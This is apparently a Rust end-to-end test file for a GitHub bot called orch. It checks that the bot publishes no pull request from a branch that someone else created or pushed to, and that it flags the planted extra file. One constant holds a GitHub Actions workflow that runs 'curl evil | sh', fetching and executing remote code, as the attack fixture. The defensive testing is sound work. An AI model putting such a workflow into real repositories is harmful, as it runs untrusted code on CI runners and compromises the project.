//! What is approved is what is shown and what is published (SPEC §6, issue 13 attacks 6 and 7):
//! a patch proposal shows its full diff and revision on GitHub, votes count only for the
//! revision they were cast on, and the branch a pull request is opened from must be the commit
//! orch made, holding exactly the approved patch.

mod common;
#[path = "common/e2e.rs"]
mod e2e;

use axum::http::Method;
use common::Backend;
use e2e::{Orch, LIB_RS, REPO};
use orch::github::fake::{Fault, FaultKind};
use std::time::Duration;

async fn orch(backend: Backend) -> Option<Orch> {
    // A short retry backoff: the tests below make GitHub fail on purpose.
    let o = Orch::with_env(backend, "phase: 4\n", &[("ORCH_GITHUB_RETRY_BACKOFF_MS", "20")]).await?;
    o.user("mara", "maintain");
    o.user("lee", "write");
    Some(o)
}

/// mara asks for a patch; returns (issue, workflow id) once it waits for approval.
async fn proposed(o: &Orch) -> (e2e::IssueSpec, i64) {
    let issue = o.open_issue("Off by one", "answer() should be 42", "dev-kim");
    o.comment(&issue, "mara", "/orch propose fix `src/lib.rs` to return 42").await;
    let id = o.only_workflow().await;
    o.wait_state(id, "WAITING_USER_APPROVAL").await;
    (issue, id)
}

fn patched_lib() -> String {
    format!("{LIB_RS}// orch: fix `src/lib.rs` to return 42\n")
}

const EVIL: &str = "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl evil | sh'}]}}\n";

/// Attack 7: someone with push access creates `orch/<id>` first, with the patch and an extra
/// workflow file. orch must not adopt it: no pull request, NEEDS_HUMAN, and the comment names
/// the extra file.
async fn a_branch_created_first_by_someone_else_is_not_published(backend: Backend) {
    let Some(o) = orch(backend).await else { return };
    let (issue, id) = proposed(&o).await;
    let branch = format!("orch/{id}");
    let planted = o.fake.state.push(
        REPO,
        &branch,
        &[("src/lib.rs", Some(&patched_lib())), (".github/workflows/evil.yml", Some(EVIL))],
    );
    o.comment(&issue, "lee", "/orch approve").await;
    o.wait_state(id, "NEEDS_HUMAN").await;
    assert!(o.fake.state.pulls(REPO).is_empty(), "no pull request from a branch orch did not make");
    assert_eq!(o.fake.state.branch_sha(REPO, &branch).as_deref(), Some(planted.as_str()));
    let said = o.bot_comments(issue.number).last().cloned().unwrap();
    assert!(
        said.contains("was not published")
            && said.contains("`.github/workflows/evil.yml` added")
            && said.contains(&planted[..12])
            && said.contains("no pull request was opened"),
        "{said}"
    );
    let reason = orch::store::workflows::get(o.store.pool(), id).await.unwrap().unwrap().reason.unwrap_or_default();
    assert!(reason.contains("is not the approved patch"), "{reason}");
}

/// A push to `orch/<id>` after orch made its commit but before the pull request: GitHub refuses
/// the pull request while orch stops (as if it crashed after the commit), someone pushes to the
/// branch, and orch starts again. It finds the branch moved and publishes nothing.
async fn a_push_after_orchs_commit_is_not_published(backend: Backend) {
    let Some(mut o) = orch(backend).await else { return };
    let (issue, id) = proposed(&o).await;
    let branch = format!("orch/{id}");
    o.fake
        .state
        .inject(Fault::new(Method::POST, "/pulls", 10_000, FaultKind::Status { code: 503, retry_after: None }));
    o.comment(&issue, "lee", "/orch approve").await;
    let made = o
        .eventually_sync("orch made its branch", Duration::from_secs(15), || o.fake.state.branch_sha(REPO, &branch))
        .await;
    o.eventually_sync("the pull request was refused", Duration::from_secs(15), || {
        o.fake.state.log().iter().any(|(m, p)| m == "POST" && p.ends_with("/pulls")).then_some(())
    })
    .await;
    o.stop().await;
    let pushed = o.fake.state.push(REPO, &branch, &[(".github/workflows/evil.yml", Some(EVIL))]);
    o.fake.state.clear_faults();
    o.resume().await;
    o.wait_state(id, "NEEDS_HUMAN").await;
    assert!(o.fake.state.pulls(REPO).is_empty());
    let said = o.bot_comments(issue.number).last().cloned().unwrap();
    assert!(
        said.contains(&format!("was moved to `{}` after orch made `{}`", &pushed[..12], &made[..12]))
            && said.contains("`.github/workflows/evil.yml` added"),
        "{said}"
    );
}

both_backends!(
    a_branch_created_first_by_someone_else_is_not_published,
    a_push_after_orchs_commit_is_not_published,
);
